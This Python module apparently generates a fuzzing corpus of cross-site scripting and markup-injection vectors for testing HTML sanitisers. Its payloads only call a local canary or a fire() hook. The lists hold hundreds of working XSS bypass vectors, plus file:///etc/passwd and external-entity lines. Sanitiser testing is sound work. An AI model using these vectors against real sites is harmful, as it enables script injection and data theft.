"""Attacks by markup, generated: tag x attribute x encoding x nesting. Every one carries a payload
of its own: {J}, a script that calls top.fire(N), or {U} and {H}, the address of a canary with and
without its scheme. Standard library only."""
import base64

EVENTS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart",
          "onpointerover", "onpageshow", "onstart", "onscroll", "onwheel", "onloadstart", "oncanplay", "ONERROR",
          "onbeforetoggle", "oncontentvisibilityautostatechange", "onauxclick", "onresize"]
TAGS = ["a", "abbr", "article", "audio", "b", "blockquote", "body", "br", "button", "canvas", "caption", "center",
        "code", "col", "custom-tag", "dd", "del", "details", "dialog", "div", "dl", "embed", "fieldset", "figure",
        "font", "form", "frameset", "h1", "hr", "html", "i", "iframe", "image", "img", "input", "isindex", "keygen",
        "label", "li", "link", "marquee", "math", "menu", "meter", "object", "ol", "p", "picture", "pre", "q",
        "ruby", "section", "select", "source", "span", "style", "summary", "svg", "table", "td", "textarea", "th",
        "title", "tr", "track", "u", "ul", "video", "wbr", "xss", "o:p"]
# Attributes that hold an address, with the tag around: {} is where it goes.
ADDRESSES = [
    '<a href="{}">t</a>', "<a href='{}'>t</a>", '<A HREF="{}">t</A>', '<area href="{}">', '<map><area shape=default href="{}"></map>',
    '<img src="{}">', '<img data-src="{}">', '<img srcset="{} 2x">', '<img lowsrc="{}">', '<img dynsrc="{}">',
    '<img longdesc="{}" src=y>', '<image src="{}">', '<iframe src="{}"></iframe>', '<frame src="{}">',
    '<frameset><frame src="{}"></frameset>', '<form action="{}"><input type=submit></form>',
    '<form><button formaction="{}">t</button></form>', '<form><input type=image formaction="{}"></form>',
    '<input type=image src="{}">', '<isindex type=image src="{}" action="{}">', '<object data="{}"></object>',
    '<object><param name=movie value="{}"></object>', '<embed src="{}">', '<applet code="{}" archive="{}"></applet>',
    '<link rel=stylesheet href="{}">', '<link rel=import href="{}">', '<link rel=prefetch href="{}">', '<base href="{}"><a href=x>t</a>',
    '<body background="{}">', '<table background="{}"><tr><td background="{}">t</table>', '<bgsound src="{}">',
    '<video src="{}" autoplay></video>', '<video poster="{}"></video>', '<video><source src="{}"></video>',
    '<audio src="{}" autoplay></audio>', '<audio><source src="{}"></audio>', '<video src=x><track default src="{}"></video>',
    '<picture><source srcset="{}"><img src=y></picture>', '<q cite="{}">t</q>', '<blockquote cite="{}">t</blockquote>',
    '<ins cite="{}">t</ins>', '<a ping="{}" href="http://a.example/">t</a>', '<meta http-equiv=refresh content="0;url={}">',
    '<meta http-equiv="refresh" content="0; URL=\'{}\'">', '<script src="{}"></script>', '<layer src="{}"></layer>',
    '<svg><a xlink:href="{}"><text y=20>t</text></a></svg>', '<svg><a href="{}"><rect width=9 height=9 /></a></svg>',
    '<svg><image xlink:href="{}" width=9 height=9 /></svg>', '<svg><image href="{}" width=9 height=9 /></svg>',
    '<svg><use href="{}#x" /></svg>', '<svg><script href="{}"></script></svg>', '<svg><feImage xlink:href="{}" /></svg>',
    '<math href="{}">t</math>', '<math><mtext xlink:href="{}">t</mtext></math>',
    '<svg><a><animate attributeName=href values="{}" /><text y=20>t</text></a></svg>',
    '<svg><a><set attributeName=xlink:href to="{}" /><text y=20>t</text></a></svg>',
    '<div style="background:url({})">t</div>', '<div style="-moz-binding:url({})">t</div>', '<style>@import "{}";</style>',
    '<div style="behavior:url({})">t</div>', '<ul style="list-style:url({})"><li>t</ul>', '<p style="background-image:\\75\\72\\6c({})">t',
    '<portal src="{}"></portal>', '<fencedframe src="{}"></fencedframe>', '<html manifest="{}">', '<img src=y usemap="{}">',
    '<command icon="{}">', '<input list=l><datalist id=l><option value="{}"></datalist>', '<a href="{}" target=_top>t</a>',
    '<a/href="{}">t</a>', '<a\nhref\n=\n"{}">t</a>', '<a x="1"href="{}">t</a>', '<a href="http://a.example/" href="{}">t</a>',
]


def numeric(text, form):
    return "".join(form % ord(c) for c in text)


# What stands before the colon and how it is written. Those with {U} or {H} load, the rest runs.
SCHEMES = [
    "javascript:{J}", "JaVaScRiPt:{J}", " javascript:{J}", "\tjavascript:{J}", "\njavascript:{J}", "java\tscript:{J}",
    "java\nscript:{J}", "java\r\nscript:{J}", "\x01javascript:{J}", "\x1f\x0ejavascript:{J}", "java\x00script:{J}",
    "java&#9;script:{J}", "java&#10;script:{J}", "java&#x0D;script:{J}", "java&Tab;script:{J}", "&NewLine;javascript:{J}",
    "&#1;javascript:{J}", "&#14;  javascript:{J}", "&#32;javascript:{J}", "&#106;avascript:{J}", "&#x6A;avascript:{J}",
    "&#0000106avascript:{J}", "&#x0006Aavascript:{J}", "javascript&colon;{J}", "javascript&#58;{J}", "javascript&#x3A;{J}",
    "javascript&#58{J}", "javascript&amp;colon;{J}", "&amp;#106;avascript:{J}", "%6Aavascript:{J}", "javascript%3A{J}",
    "javascript:%0A{J}", "javascript://127.0.0.1/%0A{J}", "javascript://%0D{J}", "javascript:/**/{J}", "javascript:void({J})",
    numeric("javascript:", "&#%d;") + "{J}", numeric("javascript:", "&#x%x;") + "{J}", numeric("javascript:", "&#%07d") + "{J}",
    "feed:javascript:{J}", "view-source:javascript:{J}", "jar:javascript:{J}!/", "http:javascript:{J}", "vbscript:{J}",
    "livescript:{J}", "mocha:{J}", "jav\u200bascript:{J}", "\u00a0javascript:{J}", "\ufeffjavascript:{J}", "ｊavascript:{J}",
    "data:text/html,<img src={U}>", "data:text/html;charset=utf-8,%3Cimg src={U}%3E", "DATA:text/html,<img src={U}>",
    "data&colon;text/html,<img src={U}>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{J}'/>",
    "data:text/javascript,{J}", "data:text/css,*{{background:url({U})}}", "data:,x", "blob:http://127.0.0.1/{J}",
    "file:///etc/passwd", "ftp://{H}", "ws://{H}", "chrome://settings", "about:blank", "{U}", "//{H}", "\\\\{H}", "/\\{H}",
    "\\/{H}", "http:\\\\{H}", "http:/{H}", "http:{H}", "ht\ntp://{H}", "http://a.example@{H}", "/\t/{H}", "http&#58;//{H}",
]

# Families known from the literature on sanitisers, in our own words. Those that end with a start tag left open
# also try whether what follows is drawn in.
FAMILIES = [
    # scripts and the elements that run or load by themselves
    "<script>{J}</script>", "<SCRIPT>{J}</SCRIPT>", "<script/x>{J}</script>", "<script\n>{J}</script\n>", "<script>{J}",
    "<script src={U}></script>", "<script src=//{H}></script>", "<script type=module>{J}</script>", "<<script>{J}//<</script>",
    "<scr<script>ipt>{J}</scr</script>ipt>", "<script>/*</script><script>*/{J}</script>", "<script><!--\n{J}\n--></script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>{J}</script>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{J}</x:script>",
    "<script>x</script><img src=x onerror={J}>", "<noscript><img src=x onerror={J}></noscript>", "<img src=x onerror={J}>",
    "<img src=x:x onerror={J}>", "<img/src=x/onerror={J}>", "<img src=x onerror\n=\n{J}>", "<img src='x'onerror='{J}'>",
    "<img src=`x`onerror={J}>", "<IMG SRC=x ONERROR={J}>", "<img src=x onerror=&#116;op.fire({N})>",
    "<img src=x on\x00error={J}>", "<img src=x \x0conerror={J}>", "<img \"\"><script>{J}</script>\">",
    "<img src=x alt=\"\" onerror=\"{J}\" alt=''>", "<img src=x title='\">' onerror={J}>", "<img src=\"x\" a='>' onerror={J} b='>'>",
    "<image src=x onerror={J}>", "<svg onload={J}>", "<svg/onload={J}>", "<svg><script>{J}</script></svg>",
    "<svg><script>{J}", "<svg><script xlink:href={U} /></svg>", "<svg><g onload={J}></g></svg>", "<svg><style><img src=x onerror={J}></style></svg>",
    "<svg><title><img src=x onerror={J}></title></svg>", "<svg><desc><img src=x onerror={J}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={J}></foreignObject></svg>", "<svg><foreignObject><iframe srcdoc=\"<script>{J}</script>\"></iframe></foreignObject></svg>",
    "<svg><animate onbegin={J} attributeName=x dur=1s>", "<svg><set onbegin={J} attributeName=x to=1>", "<svg><image href=x onerror={J} /></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='{U}' width='9' height='9'/></svg>#x\" /></svg>",
    "<svg><p><img src=x onerror={J}></p></svg>", "<svg></p><img src=x onerror={J}>", "<svg><![CDATA[><img src=x onerror={J}>]]></svg>",
    "<svg><![CDATA[<]]><![CDATA[img src=x onerror={J}>]]></svg>", "<svg><a xlink:href=javascript:{J}><text y=20>t</text></a></svg>",
    "<math><mi//xlink:href=\"data:x,{J}\">", "<math><mtext><img src=x onerror={J}></mtext></math>", "<math><annotation-xml encoding=text/html><img src=x onerror={J}></annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><script>{J}</script></annotation-xml></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{J}>t</maction></math>",
    "<iframe srcdoc=\"<script>{J}</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;{J}&lt;/script&gt;'></iframe>", "<iframe src={U}></iframe>",
    "<iframe src=javascript:{J}></iframe>", "<iframe onload={J}></iframe>", "<iframe><img src=x onerror={J}></iframe>",
    "<object data={U}></object>", "<object data=\"data:text/html,<img src={U}>\"></object>", "<object onerror={J} data=x></object>",
    "<object><img src=x onerror={J}></object>", "<embed src={U}>", "<embed src=\"data:text/html,<img src={U}>\">", "<applet code=x archive={U}></applet>",
    "<frameset onload={J}></frameset>", "<body onload={J}>", "<body background={U}>", "<html onmouseover={J}>", "<meta http-equiv=refresh content=0;url={U}>",
    "<meta http-equiv=set-cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-{J}+ADw-/script+AD4-", "<link rel=stylesheet href={U}>",
    "<link rel=preload as=script href={U}>", "<link rel=icon href={U}>", "<link rel=modulepreload href={U}>", "<link rel=dns-prefetch href=//{H}>", "<link rel=manifest href={U}>",
    "<base href={U}/><img src=q>", "<base href=javascript:/><a href=x>t</a>", "<base target=x>", "<style>body{{background:url({U})}}</style>",
    "<style>@import url({U});</style>", "<style>@font-face{{font-family:x;src:url({U})}}*{{font-family:x}}</style>", "<div style='background:url({U})'>t</div>",
    "<div style=\"background:url(&quot;{U}&quot;)\">t</div>", "<div style='width:expression({J})'>t</div>", "<style>*{{-moz-binding:url({U}#x)}}</style>",
    "<div style='list-style-image:url({U});display:list-item'>t</div>", "<div style='content:url({U})'>t</div>", "<div style='filter:url({U}#f)'>t</div>",
    "<div style='cursor:url({U}),auto'>t</div>", "<div style='border-image:url({U}) 1;border:1px solid'>t</div>", "<p style=background:\\000075rl({U})>t",
    "<input autofocus onfocus={J}>", "<select autofocus onfocus={J}></select>", "<textarea autofocus onfocus={J}></textarea>", "<button autofocus onfocus={J}>t</button>",
    "<a autofocus tabindex=0 onfocus={J}>t</a>", "<div contenteditable autofocus onfocus={J}>t</div>", "<keygen autofocus onfocus={J}>",
    "<details open ontoggle={J}>t</details>", "<details open><summary onclick={J}>t</summary></details>", "<video><source onerror={J}></video>",
    "<video src=x onerror={J}></video>", "<video poster={U}></video>", "<video src={U} autoplay></video>", "<video><source src={U}></video>", "<audio src=x onerror={J}></audio>",
    "<audio src={U} preload=auto></audio>", "<audio><source src={U} onerror={J}></audio>", "<video src=x><track default src={U} kind=captions></video>",
    "<picture><source srcset={U}><img></picture>", "<img srcset='{U} 1x'>", "<img src=x srcset={U}>", "<input type=image src={U}>",
    "<input type=image src=x onerror={J}>", "<isindex action=javascript:{J} type=image>", "<form action=javascript:{J}><input type=submit></form>",
    "<form action={U}><input type=submit></form>", "<form><button formaction=javascript:{J}>t</button></form>", "<button form=f formaction=javascript:{J}>t</button><form id=f></form>",
    "<form id=f action=javascript:{J}></form><input type=submit form=f>", "<marquee onstart={J}>t</marquee>", "<marquee loop=1 width=0 onfinish={J}>t</marquee>",
    "<table background={U}><tr><td>t</table>", "<table><td background={U}>t</table>", "<bgsound src={U}>", "<layer src={U}></layer>",
    "<a href=http://a.example/ ping={U}>t</a>", "<a href=javascript:{J}>t</a>", "<a href=\"javascript&colon;{J}\">t</a>",
    "<a href='javascript:{J}' target=_blank>t</a>", "<a href=//{H}>t</a>", "<a href='data:text/html,<img src={U}>'>t</a>", "<map name=m><area href=javascript:{J}></map>",
    "<xml id=x><i><b>&lt;img src=x onerror={J}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>",
    "<?xml-stylesheet type='text/xsl' href='{U}'?>t", "<?php echo '<img src=x onerror={J}>' ?>", "<?import namespace=t implementation={U}>", "<!DOCTYPE x [<!ENTITY e SYSTEM '{U}'>]>&e;",
    "<portal src={U}></portal>", "<dialog open onclick={J}>t</dialog>", "<canvas><img src=x onerror={J}></canvas>", "<custom-x onclick={J} style='all:unset'>t</custom-x>",
    "<div popover id=p onbeforetoggle={J}>t</div><button popovertarget=p>t</button>", "<template shadowrootmode=open><img src=x onerror={J}></template>",
    "<div><template shadowrootmode=open><script>{J}</script></template></div>", "<input list=x><datalist id=x onfocus={J}><option>t</datalist>", "<slot onslotchange={J}>t</slot>",
    # comments, declarations, CDATA
    "<!--><img src=x onerror={J}>-->", "<!---><img src=x onerror={J}>-->", "<!-- --!><img src=x onerror={J}> -->", "<!-- > <img src=x onerror={J}> -->",
    "<!-- -- ><img src=x onerror={J}> -->", "<!--[if gte IE 4]><script>{J}</script><![endif]-->", "<![if IE]><img src=x onerror={J}><![endif]>",
    "<!-<img src=x onerror={J}>->", "</ <img src=x onerror={J}>>", "</-><img src=x onerror={J}>", "<!><img src=x onerror={J}>", "<!a'><img src=x onerror={J}>'>",
    "<![CDATA[<img src=x onerror={J}>]]>", "<![CDATA[<![CDATA[<img src=x onerror={J}>]]>]]>", "<![CDATA[]]><img src=x onerror={J}>", "<![CDATA[><img src=x onerror={J}>]]>",
    "<!--<![CDATA[--><img src=x onerror={J}>]]>", "<![CDATA[<!--]]><img src=x onerror={J}>-->", "<!--<!--><img src=x onerror={J}>", "<!DOCTYPE html><img src=x onerror={J}>",
    "<!--\n--\n><img src=x onerror={J}>-->", "<![><img src=x onerror={J}>", "<%><img src=x onerror={J}>%>", "<!ELEMENT img><img src=x onerror={J}>",
    # escaped more than once
    "&lt;img src=x onerror={J}&gt;", "&amp;lt;img src=x onerror={J}&amp;gt;", "&amp;amp;lt;script&amp;amp;gt;{J}&amp;amp;lt;/script&amp;amp;gt;", "&#60;script&#62;{J}&#60;/script&#62;",
    "&#x3c;img src=x onerror={J}&#x3e;", "&#60img src=x onerror={J}&#62", "&lt<img src=x onerror={J}>", "\\u003cimg src=x onerror={J}\\u003e", "%3Cimg src=x onerror={J}%3E",
    "＜script＞{J}＜/script＞", "+ADw-img src=x onerror={J}+AD4-", "<\x00img src=x onerror={J}>", "<\u200bimg src=x onerror={J}>", "&LT;img src=x onerror={J}&GT;",
    # raw text and what a second parse makes of it
    "<noscript><p title=\"</noscript><img src=x onerror={J}>\"></noscript>", "<noscript><style></noscript><img src=x onerror={J}></style></noscript>",
    "<style><!--</style><img src=x onerror={J}>-->", "<style><a title=\"</style><img src=x onerror={J}>\">", "<title><a title=\"</title><img src=x onerror={J}>\">",
    "<title></title><img src=x onerror={J}>", "<textarea><a title=\"</textarea><img src=x onerror={J}>\">", "<textarea></textarea><img src=x onerror={J}>",
    "<textarea><!--</textarea><img src=x onerror={J}>-->", "<xmp><a title=\"</xmp><img src=x onerror={J}>\">", "<xmp><p></xmp><img src=x onerror={J}>", "<plaintext><img src=x onerror={J}>",
    "<iframe><a title=\"</iframe><img src=x onerror={J}>\">", "<noembed><a title=\"</noembed><img src=x onerror={J}>\">", "<noframes><a title=\"</noframes><img src=x onerror={J}>\">",
    "<listing>&lt;img src=x onerror={J}&gt;</listing>", "<template><img src=x onerror={J}></template>", "<template><a title=\"</template><img src=x onerror={J}>\"></template>",
    "<select><style></select><img src=x onerror={J}></style>", "<select><iframe></select><img src=x onerror={J}>", "<select><option><img src=x onerror={J}></select>",
    "<select><template><img src=x onerror={J}></template></select>", "<select><script>{J}</script></select>", "<script><a title=\"</script><img src=x onerror={J}>\">",
    "<noscript><noscript></noscript><img src=x onerror={J}></noscript>", "<xmp></xmp x><img src=x onerror={J}>", "<style></style x='><img src=x onerror={J}>'>",
    "<textarea><title></textarea><img src=x onerror={J}></title>", "<title><textarea></title><img src=x onerror={J}></textarea>", "<style></styl><img src=x onerror={J}>",
    # foreign content and namespaces
    "<svg></svg><img src=x onerror={J}>", "<svg><p><style><a title=\"</style><img src=x onerror={J}>\">", "<math><style><a title=\"</style><img src=x onerror={J}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={J}>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={J}&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror={J}>", "<svg><style>&lt;/style&gt;&lt;img src=x onerror={J}&gt;</style></svg>",
    "<math><mi><style><img title='</style><img src=x onerror={J}>'>", "<svg><title><style><img title='</style><img src=x onerror={J}>'></style></title></svg>",
    "<svg><desc><noscript><img title='</noscript><img src=x onerror={J}>'></noscript></desc></svg>", "<svg><foreignObject><math><mi><style>&lt;img src=x onerror={J}&gt;</style>",
    "<math><annotation-xml encoding=\"text/html\"><style><img title='</style><img src=x onerror={J}>'></style></annotation-xml></math>",
    "<math><annotation-xml><svg><style><img title='</style><img src=x onerror={J}>'>", "<svg><a title=\"</svg><img src=x onerror={J}>\">", "<svg><br><style><img title='</style><img src=x onerror={J}>'>",
    "<math></br><style><img title='</style><img src=x onerror={J}>'>", "<svg><font color=x><style><img title='</style><img src=x onerror={J}>'>", "<svg><font><style><img title='</style><img src=x onerror={J}>'>",
    "<svg:script>{J}</svg:script>", "<html:img src=x onerror={J} />", "<svg xmlns=\"http://www.w3.org/1999/xhtml\"><script>{J}</script></svg>", "<svg xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>{J}</x:script></svg>",
    "<div xmlns=\"http://www.w3.org/2000/svg\"><script>{J}</script></div>", "<svg><annotation-xml encoding=text/html><img src=x onerror={J}>",
    # tables, forms, lists: what a browser moves
    "<table><img src=x onerror={J}></table>", "<table><a href=javascript:{J}>t</table>", "<table><tr><script>{J}</script></tr></table>", "<table><select><img src=x onerror={J}></table>",
    "<table><svg><style><img title='</style><img src=x onerror={J}>'></table>", "<form><form><img src=x onerror={J}></form>", "<form><div></form><form><img src=x onerror={J}>",
    "<table><form><tr><td></form><img src=x onerror={J}>", "<p><table><p><img src=x onerror={J}>", "<a><a><img src=x onerror={J}></a>", "<a><table><a href=javascript:{J}>t</table></a>",
    "<b><p></b><img src=x onerror={J}></p>", "<table><caption><img src=x onerror={J}></caption></table>", "<table><colgroup><img src=x onerror={J}></table>",
    "<table><template><td><img src=x onerror={J}></template></table>", "<ul><li><table><li><img src=x onerror={J}>", "<nobr><nobr><img src=x onerror={J}>", "<button><button><img src=x onerror={J}>",
    "<frameset><img src=x onerror={J}></frameset>", "<head><img src=x onerror={J}></head>", "<body><body onload={J}>", "<html><head><base href={U}></head><body>t</body></html>",
    "<ruby><rt><svg><style><img title='</style><img src=x onerror={J}>'></ruby>", "<option><optgroup><img src=x onerror={J}>", "<p><plaintext><p><img src=x onerror={J}>",
    "<dl><dd><dl></dd><img src=x onerror={J}>", "<h1><h2></h1><img src=x onerror={J}>", "<center><center></center><img src=x onerror={J}>", "</div></div></div></body></html><img src=x onerror={J}>",
    "</p></br></a></table></td><img src=x onerror={J}>", "</script></style></title></textarea></xmp></noscript></template></svg></math>--><img src=x onerror={J}>", "]]></description><img src=x onerror={J}>",
    # clobbering, names, attributes that end early
    "<img name=body src=y>", "<form id=location href=x></form>", "<a id=fire></a><a id=fire name=x href=javascript:{J}>t</a>", "<form name=top><input name=fire></form>", "<iframe name=fire srcdoc='<a id=x>'></iframe>",
    "<div id=e0 class=entry>t</div>", "<a href='http://a.example/' title='\" onmouseover={J} x=\"'>t</a>", "<img src=y alt='\"><img src=x onerror={J}>'>", "<img src=y alt=\"'><img src=x onerror={J}>\">",
    "<img alt=`><img src=x onerror={J}>` src=y>", "<a title=\"&quot;><img src=x onerror={J}>\" href=http://a.example/>t</a>", "<a title='&#39; onclick={J} &#39;' href=http://a.example/>t</a>",
    "<abbr title='&lt;img src=x onerror={J}&gt;'>t</abbr>", "<img src=y alt='&amp;quot;&gt;&lt;script&gt;{J}&lt;/script&gt;'>", "<p lang='\"><img src=x onerror={J}>'>t</p>", "<td colspan='1\" onclick={J}'>t",
    "<a href=\"http://a.example/&quot;onclick={J}&quot;\">t</a>", "<a href='http://a.example/\"onclick={J} x=\"'>t</a>", "<a href=\"http://a.example/<img src=x onerror={J}>\">t</a>", "<a href='http://a.example/`onclick={J}`'>t</a>",
    "<source src=\"x\" onerror={J} type='\"><img src=x onerror={J}>'>", "<ol start='1\" onclick=\"{J}'><li>t</ol>", "<img src=y width='1\" onerror=\"{J}' height=99>", "<p dir='rtl\" onclick=\"{J}'>t</p>",
    "<a href=http://a.example/ onclick={J} <b>t</b>", "<a href=\"x\" onmouseover={J}//", "<img src=x onerror={J}", "<img src=\"x\" onerror=\"{J}", "<a title=\"<img src=x onerror={J}>", "<a href='", "<div onclick='", "<!--", "<textarea>",
    "<style>", "<title>", "<xmp>", "<svg>", "<math><mi>", "<select>", "<template>", "<table><tr>", "<form>", "<button>", "<noscript>", "<plaintext>", "<iframe>", "<object>", "<script>", "<![CDATA[", "<?x", "<!x", "</x", "<", "&", "&#", "&#x",
    # hidden from people, seen by readers
    "<div style='display:none'><a href=javascript:{J}>t</a></div>", "<span hidden><img src={U}></span>", "<p style='font-size:0'>t<img src=x onerror={J}></p>", "<img src={U} width=1 height=1>", "<img src={U} style='display:none'>",
    "<img src={U} style='width:1px;height:1px'>", "<iframe width=0 height=0 src={U}></iframe>",
]

NESTS = [
    "{}", "<p>{}</p>", "<div><b><i>{}</i></b></div>", "<table><tr><td>{}</td></tr></table>", "<table>{}</table>", "<ul><li>{}</li></ul>", "<a href=http://a.example/>{}</a>", "<blockquote><p>{}", "<svg>{}</svg>",
    "<math><mtext>{}</mtext></math>", "<svg><foreignObject>{}</foreignObject></svg>", "<noscript>{}</noscript>", "<template>{}</template>", "<select>{}</select>", "<form>{}</form>", "<pre>{}</pre>", "<details><summary>{}</summary></details>",
    "<font color=red>{}</font>", "<o:p>{}</o:p>", "<math><annotation-xml encoding=text/html>{}", "<svg><title>{}</title></svg>", "<style></style>{}", "<textarea></textarea>{}", "<![CDATA[{}]]>", "<!-- c -->{}<!-- d -->", "<b><p>{}</b></p>", "<h1><h2>{}",
    "<iframe></iframe>{}", "<object>{}</object>", "<video>{}</video>", "<button>{}</button>", "<ruby><rt>{}</ruby>", "<center><table><caption>{}</table></center>", "<div hidden>x</div>{}", "<p title='>'>{}", "<br/{}",
]


def fill(template, number, port):
    """The vector with its payload; single braces of templates are written double."""
    home = f"127.0.0.1:{port}/c{number}"
    script = f"top.fire({number})"
    for name, value in (("{J}", script), ("{U}", "http://" + home), ("{H}", home), ("{N}", str(number))):
        template = template.replace(name, value)
    return template.replace("{{", "{").replace("}}", "}")


def put(nest, inner):
    return nest.replace("{}", inner)


def templates():
    """(kind, template) of every vector; kinds: family, address, event, nested, image."""
    for t in FAMILIES:
        yield "family", t
    for i, t in enumerate(ADDRESSES):
        for k, s in enumerate(SCHEMES):
            # The whole table for links and images; elsewhere each scheme with every third attribute.
            if i < 3 or i == 5 or (i + k) % 3 == 0:
                yield "address", put(t, s)
    for i, tag in enumerate(TAGS):
        for k, event in enumerate(EVENTS):
            if (i + k) % 4 == 0:
                yield "event", f"<{tag} src=x href=x {event}={{J}} x>t</{tag}>"
    for i, t in enumerate(FAMILIES):
        for k in range(2):
            yield "nested", put(NESTS[1 + (i * 2 + k) % (len(NESTS) - 1)], t)
    code = base64.b64encode(b"<script>top.fire(0)</script>").decode()
    yield "address", f'<iframe src="data:text/html;base64,{code}"></iframe>'
